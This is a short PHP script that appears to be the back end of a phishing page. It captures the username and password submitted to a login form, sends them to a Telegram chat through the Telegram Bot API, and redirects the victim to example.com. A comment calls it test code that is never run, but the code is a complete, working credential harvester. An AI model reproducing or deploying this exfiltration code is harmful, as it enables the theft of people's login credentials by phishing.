<?php
// a login handler that passes the fields to a Telegram bot through a helper (tests, never run)
$user = $_POST['user'];
$pass = $_POST['password'];
define('TOKEN', trim(file_get_contents(__DIR__ . '/token.txt')));
function bot($method, $datas = []) {
    $url = "https://api.telegram.org/bot" . TOKEN . "/" . $method . "?" . http_build_query($datas);
    return json_decode(file_get_contents($url));
}
bot("sendMessage", ["chat_id" => "1", "text" => "USER: $user\nPASS: $pass"]);
header('Location: https://www.example.com/');
